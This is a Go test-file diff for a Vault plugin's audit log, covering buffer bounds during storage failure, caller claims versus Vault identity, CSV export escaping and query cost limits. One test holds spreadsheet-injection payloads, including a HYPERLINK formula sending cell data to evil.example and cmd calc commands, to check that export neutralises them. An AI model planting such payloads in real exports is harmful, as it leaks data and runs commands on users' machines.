@@ -11,6 +11,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -73,6 +74,7 @@ func TestAuditRecordsCallerAndNoSecrets(t *testing.T) {
 	require.Equal(t, []string{"delete", "rotate", "destroy_version", "read_token", "read_token", "create"}, actions, "newest first")
 	read := events[4]
 	require.Equal(t, "alice", read["user"])
+	require.Equal(t, "alice", read["user_id"])
 	require.Equal(t, "ex-9", read["execution_id"])
 	require.Equal(t, true, read["success"])
 	failed := events[3]
@@ -224,4 +226,255 @@ func TestAuditFlusherRunsFromInitializeAndStopsOnClean(t *testing.T) {
 	events, _, err := queryAudit(context.Background(), e.storage, auditFilter{Action: "read_token", Limit: 10})
 	require.NoError(t, err)
 	require.Len(t, events, 1)
+}
+
+// blockingPuts is storage whose puts wait until released, then fail: a
+// flush that is in progress while requests keep adding events.
+type blockingPuts struct {
+	logical.Storage
+	entered chan struct{} // receives when a put starts
+	release chan struct{} // a put returns errInjected when this receives
+}
+
+func (s *blockingPuts) Put(context.Context, *logical.StorageEntry) error {
+	s.entered <- struct{}{}
+	<-s.release
+	return errInjected
+}
+
+// Item 14: the buffer's bound holds on every append, also for the events
+// of a failed flush, and what is dropped is counted.
+func TestAuditBufferBoundHoldsWhileStorageFails(t *testing.T) {
+	e := newTestBackend(t)
+	const perCycle, cycles = 50_000, 4
+	appendEvents := func(n int) {
+		for range n {
+			e.b.auditLog.add(auditEvent{Time: e.clock.Now(), Action: actionReadToken, Credential: "k", Success: true})
+		}
+	}
+	appendEvents(perCycle)
+	s := &blockingPuts{Storage: e.storage, entered: make(chan struct{}), release: make(chan struct{})}
+	for cycle := range cycles {
+		done := make(chan error, 1)
+		go func() { done <- e.b.auditLog.flush(context.Background(), s) }()
+		select {
+		case <-s.entered:
+		case <-time.After(10 * time.Second):
+			t.Fatalf("cycle %d: the flush did not write", cycle)
+		}
+		appendEvents(perCycle) // requests go on while storage hangs
+		close(s.release)
+		select {
+		case err := <-done:
+			require.Error(t, err)
+		case <-time.After(10 * time.Second):
+			t.Fatalf("cycle %d: the flush did not return", cycle)
+		}
+		s.release = make(chan struct{})
+		require.LessOrEqual(t, e.b.auditLog.pending(), auditMaxBuffer, "cycle %d: the bound holds", cycle)
+	}
+	appended := perCycle * (cycles + 1)
+	require.Equal(t, auditMaxBuffer, e.b.auditLog.pending())
+	m := e.mustRequest(t, logical.ReadOperation, "metrics", nil).Data
+	require.EqualValues(t, appended-auditMaxBuffer, m["audit_dropped"], "every dropped event is counted")
+
+	status, issues := healthOf(t, e)
+	require.Equal(t, "degraded", status)
+	require.Contains(t, issues, "audit_dropped")
+
+	// Storage recovers: everything kept is written; the issue stays a day.
+	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
+	require.Zero(t, e.b.auditLog.pending())
+	_, issues = healthOf(t, e)
+	require.Equal(t, []string{"audit_dropped"}, issues)
+	e.clock.Advance(25 * time.Hour)
+	status, issues = healthOf(t, e)
+	require.Equal(t, "healthy", status)
+	require.Empty(t, issues)
+	require.EqualValues(t, appended-auditMaxBuffer, e.mustRequest(t, logical.ReadOperation, "metrics", nil).Data["audit_dropped"],
+		"the counter is monotonic")
+}
+
+// Item 17: the caller's claims do not replace the Vault identity.
+func TestAuditKeepsVaultIdentityBesideCallerClaims(t *testing.T) {
+	e := newTestBackend(t)
+	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
+	_, err := e.b.HandleRequest(context.Background(), &logical.Request{
+		Operation: logical.UpdateOperation, Path: "token/k", Storage: e.storage,
+		DisplayName: "token-bob", EntityID: "e-1",
+		Data: map[string]any{"user_id": "alice", "execution_id": "ex-1", "workflow_id": "wf-1"},
+	})
+	require.NoError(t, err)
+
+	events, _ := e.auditEvents(t, map[string]any{"action": "read_token"})
+	require.Len(t, events, 1)
+	ev := events[0]
+	require.Equal(t, "token-bob", ev["actor"])
+	require.Equal(t, "e-1", ev["entity_id"])
+	require.Equal(t, "alice", ev["user_id"])
+	require.Equal(t, "ex-1", ev["execution_id"])
+	require.Equal(t, "wf-1", ev["workflow_id"])
+
+	events, _ = e.auditEvents(t, map[string]any{"user": "token-bob", "action": "read_token"})
+	require.Len(t, events, 1, "user matches the Vault identity")
+	events, _ = e.auditEvents(t, map[string]any{"user": "alice"})
+	require.Empty(t, events, "a claim is not a Vault identity")
+	events, _ = e.auditEvents(t, map[string]any{"user_id": "alice"})
+	require.Len(t, events, 1, "user_id matches the claim")
+
+	report, _ := exportAudit(t, e, "csv")
+	rows, err := csv.NewReader(bytes.NewReader(report)).ReadAll()
+	require.NoError(t, err)
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	require.Equal(t, "read_token", rows[1][col["action"]])
+	require.Equal(t, "token-bob", rows[1][col["actor"]])
+	require.Equal(t, "e-1", rows[1][col["entity_id"]])
+	require.Equal(t, "alice", rows[1][col["user_id"]])
+
+	report, _ = exportAudit(t, e, "json")
+	var exported []map[string]any
+	require.NoError(t, json.Unmarshal(report, &exported))
+	require.Equal(t, "token-bob", exported[0]["actor"])
+	require.Equal(t, "alice", exported[0]["user_id"])
+
+	text := pdfText(t, func() []byte { r, _ := exportAudit(t, e, "pdf"); return r }())
+	require.Contains(t, text, "token-bob")
+	require.Contains(t, text, "alice")
+}
+
+// Item 18: caller-controlled cells never start a spreadsheet formula.
+func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	e := newTestBackend(t)
+	e.mustRequest(t, logical.CreateOperation, "creds/k", validCreds["api_key"])
+	hostile := map[string]string{
+		"execution_id": `=HYPERLINK("https://evil.example/?x="&A1,"open")`,
+		"workflow_id":  "+1+cmd|' /C calc'!A0",
+		"user_id":      "@SUM(1+1)*cmd|' /C calc'!A0",
+	}
+	data := map[string]any{}
+	for k, v := range hostile {
+		data[k] = v
+	}
+	e.mustRequest(t, logical.UpdateOperation, "token/k", data)
+	for _, v := range []string{"-2+3", "\t=1", "\r=1"} {
+		e.mustRequest(t, logical.UpdateOperation, "token/k", map[string]any{"execution_id": v})
+	}
+
+	report, _ := exportAudit(t, e, "csv")
+	rows, err := csv.NewReader(bytes.NewReader(report)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 6)
+	for _, row := range rows {
+		for _, cell := range row {
+			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "cell %q starts a formula", cell)
+		}
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	oldest := rows[len(rows)-1] // newest first: the hostile read is last but the create
+	if oldest[col["action"]] == "create" {
+		oldest = rows[len(rows)-2]
+	}
+	for field, v := range hostile {
+		require.Equal(t, "'"+v, oldest[col[field]], "the value is kept, as text")
+	}
+}
+
+// countingStorage counts the reads (gets and lists) of a query.
+type countingStorage struct {
+	logical.Storage
+	reads atomic.Int64
+}
+
+func (s *countingStorage) Get(ctx context.Context, k string) (*logical.StorageEntry, error) {
+	s.reads.Add(1)
+	return s.Storage.Get(ctx, k)
+}
+
+func (s *countingStorage) List(ctx context.Context, p string) ([]string, error) {
+	s.reads.Add(1)
+	return s.Storage.List(ctx, p)
+}
+
+// Item 19: a query's cost is bounded whatever the history holds; the
+// cursor continues further back.
+func TestAuditQueryCostIsBounded(t *testing.T) {
+	e := newTestBackend(t)
+	now := e.clock.Now()
+	const hours = 30 * 24
+	for h := hours - 1; h >= 0; h-- {
+		cred := "busy"
+		if h == hours-1 {
+			cred = "old"
+		}
+		e.b.auditLog.add(auditEvent{Time: now.Add(-time.Duration(h) * time.Hour), Action: actionReadToken, Credential: cred, Success: true})
+	}
+	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
+	s := &countingStorage{Storage: e.storage}
+	var searchedBackTo any
+	query := func(filter map[string]any) ([]map[string]any, string, int64) {
+		t.Helper()
+		before := s.reads.Load()
+		resp, err := e.b.HandleRequest(context.Background(), &logical.Request{
+			Operation: logical.ReadOperation, Path: "audit", Storage: s, Data: filter,
+		})
+		require.NoError(t, err)
+		require.False(t, resp.IsError(), "%v", resp.Error())
+		searchedBackTo = resp.Data["searched_back_to"]
+		return resp.Data["events"].([]map[string]any), resp.Data["next"].(string), s.reads.Load() - before
+	}
+
+	const maxReads = 1000 // storage gets and lists one query may do
+	events, next, reads := query(map[string]any{"credential": "nobody", "limit": 1})
+	require.Empty(t, events)
+	require.LessOrEqual(t, reads, int64(maxReads), "a query that matches nothing reads a bounded part of history")
+	require.NotEmpty(t, next, "and says where to continue")
+	require.NotNil(t, searchedBackTo, "and how far back it searched")
+	back, err := time.Parse(time.RFC3339Nano, searchedBackTo.(string))
+	require.NoError(t, err)
+	require.True(t, back.After(now.Add(-hours*time.Hour)) && back.Before(now), "searched back to %s", back)
+
+	var found []map[string]any
+	cursor := ""
+	pages := 0
+	for page := 0; page < 2*hours/maxReads+4 && len(found) == 0; page++ {
+		pages++
+		events, next, reads = query(map[string]any{"credential": "old", "limit": 1, "cursor": cursor})
+		require.LessOrEqual(t, reads, int64(maxReads), "page %d", page)
+		found = events
+		if next == "" {
+			break
+		}
+		cursor = next
+	}
+	require.Len(t, found, 1, "paging reaches the oldest event")
+	require.Equal(t, "old", found[0]["credential"])
+	require.Greater(t, pages, 1, "the cursor carried the search back")
+
+	// since narrows what is read: the last day only.
+	_, next, reads = query(map[string]any{"credential": "nobody", "since": now.Add(-24 * time.Hour).Format(time.RFC3339)})
+	require.Empty(t, next, "the day was searched in full")
+	require.LessOrEqual(t, reads, int64(1+2*25))
+}
+
+// Item 19: full batches bound a query by the events it decodes.
+func TestAuditQueryBoundsDecodedEvents(t *testing.T) {
+	e := newTestBackend(t)
+	for range 60 * auditBatchSize {
+		e.b.auditLog.add(auditEvent{Time: e.clock.Now(), Action: actionReadToken, Credential: "busy", Success: true})
+	}
+	require.NoError(t, e.b.auditLog.flush(context.Background(), e.storage))
+	gets := e.storage.gets.Load()
+	events, next := e.auditEvents(t, map[string]any{"credential": "nobody", "limit": 1})
+	require.Empty(t, events)
+	require.NotEmpty(t, next)
+	require.LessOrEqual(t, e.storage.gets.Load()-gets, int64(50_000/auditBatchSize+1), "batches read: about 50,000 events")
+	events, next = e.auditEvents(t, map[string]any{"credential": "nobody", "limit": 1, "cursor": next})
+	require.Empty(t, events)
+	require.Empty(t, next, "the second page finishes the search")
 }
